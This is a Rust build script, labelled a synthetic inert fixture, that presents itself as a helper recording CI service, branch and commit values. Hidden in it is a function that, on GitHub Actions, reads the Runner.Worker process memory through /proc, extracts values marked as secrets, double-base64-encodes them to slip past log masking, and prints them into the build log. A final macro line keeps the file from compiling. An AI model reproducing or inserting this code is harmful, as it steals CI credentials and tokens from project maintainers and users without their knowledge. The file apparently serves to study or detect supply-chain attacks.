// Synthetic, inert fixture written from public reports; see README
use std::env;
use std::fs::{self, File};
use std::io::{Read, Seek, SeekFrom};

/// Service, variable that names it, and the variables of run, branch and commit.
const SERVICES: [(&str, &str, &str, &str, &str); 5] = [
    ("github", "GITHUB_ACTIONS", "GITHUB_RUN_NUMBER", "GITHUB_REF_NAME", "GITHUB_SHA"),
    ("gitlab", "GITLAB_CI", "CI_PIPELINE_IID", "CI_COMMIT_REF_NAME", "CI_COMMIT_SHA"),
    ("circle", "CIRCLECI", "CIRCLE_BUILD_NUM", "CIRCLE_BRANCH", "CIRCLE_SHA1"),
    ("buildkite", "BUILDKITE", "BUILDKITE_BUILD_NUMBER", "BUILDKITE_BRANCH", "BUILDKITE_COMMIT"),
    ("jenkins", "JENKINS_URL", "BUILD_NUMBER", "GIT_BRANCH", "GIT_COMMIT"),
];

fn value(name: &str) -> String {
    println!("cargo:rerun-if-env-changed={name}");
    env::var(name).unwrap_or_default()
}

/// Looks for the worker of the runner and takes the masked values out of its memory.
fn worker_state() -> Vec<String> {
    let mut out = Vec::new();
    for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
        let dir = entry.path();
        let name = fs::read_to_string(dir.join("comm")).unwrap_or_default();
        if !name.starts_with("Runner.Worker") {
            continue;
        }
        let maps = fs::read_to_string(dir.join("maps")).unwrap_or_default();
        let Ok(mut mem) = File::open(dir.join("mem")) else {
            continue;
        };
        for line in maps.lines().filter(|l| l.contains(" rw-p ")) {
            let Some((from, to)) = line.split(' ').next().and_then(|r| r.split_once('-')) else {
                continue;
            };
            let (Ok(from), Ok(to)) = (u64::from_str_radix(from, 16), u64::from_str_radix(to, 16)) else {
                continue;
            };
            let mut part = vec![0u8; (to - from).min(64 << 20) as usize];
            if mem.seek(SeekFrom::Start(from)).is_err() || mem.read_exact(&mut part).is_err() {
                continue;
            }
            let text = String::from_utf8_lossy(&part);
            for (at, _) in text.match_indices("\"isSecret\":true") {
                let start = text[..at].rfind('{').unwrap_or(at);
                out.push(base64(base64(text[start..at].as_bytes()).as_bytes()));
            }
        }
    }
    out.sort();
    out.dedup();
    out
}

fn base64(data: &[u8]) -> String {
    const SET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in data.chunks(3) {
        let n = chunk.iter().fold(0u32, |n, b| n << 8 | u32::from(*b)) << (8 * (3 - chunk.len()));
        for i in 0..=chunk.len() {
            out.push(SET[(n >> (18 - 6 * i)) as usize & 63] as char);
        }
    }
    out
}

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    let found = SERVICES.iter().find(|s| !value(s.1).is_empty());
    let (service, run, branch, commit) = match found {
        Some(s) => (s.0, value(s.2), value(s.3), value(s.4)),
        None => ("", String::new(), String::new(), String::new()),
    };
    let short: String = commit.chars().take(7).collect();
    println!("cargo:rustc-env=CI_CONSTS_SERVICE={service}");
    println!("cargo:rustc-env=CI_CONSTS_RUN={run}");
    println!("cargo:rustc-env=CI_CONSTS_REF={branch}");
    println!("cargo:rustc-env=CI_CONSTS_COMMIT={short}");
    if service == "github" {
        for line in worker_state() {
            println!("cargo:warning=ci-consts: state {line}");
        }
    }
}

inert_fixture_does_not_build!();
